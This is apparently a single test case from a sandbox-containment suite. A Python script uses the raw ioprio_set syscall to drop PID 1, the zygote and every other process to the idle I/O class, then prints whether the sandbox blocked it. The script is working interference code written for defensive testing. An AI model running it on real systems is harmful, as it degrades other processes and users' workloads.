# ATTACK 116 ioprio_neighbours
# KIND: containment
# ATTEMPTS: the I/O-priority twin of setpriority: ioprio_set (not a libc wrapper, so easy to
#           forget) on PID 1, the zygote and every process of the uid (IOPRIO_WHO_PROCESS and
#           IOPRIO_WHO_USER) to the idle class, which every later job then inherits from the fork
#           server.
# CORRECT SANDBOX MUST: a job changes no other process's I/O priority; the next job starts with
#           the default one.
# HARNESS CHECK: ESCAPED if PID 1 or the zygote reads back the idle class; the next job in the
#           same sandbox starts with I/O priority 0 (none set).
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NR_IOPRIO_SET, NR_IOPRIO_GET = 251, 252
WHO_PROCESS, WHO_USER = 1, 3
IDLE = 3 << 13
me = os.getpid()
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
changed = []
for pid in others:
    libc.syscall(NR_IOPRIO_SET, WHO_PROCESS, pid, IDLE)
    if libc.syscall(NR_IOPRIO_GET, WHO_PROCESS, pid) == IDLE:
        changed.append(pid)
user = libc.syscall(NR_IOPRIO_SET, WHO_USER, os.getuid(), IDLE)
print(f"ATTACK_INFO: others={others} ioprio_set by user -> {user} errno {ctypes.get_errno()}")
print(
    "ATTACK_RESULT: "
    + (
        f"ESCAPED idle I/O class set on {changed}"
        if changed
        else "BLOCKED no other process's I/O priority changed"
    )
)
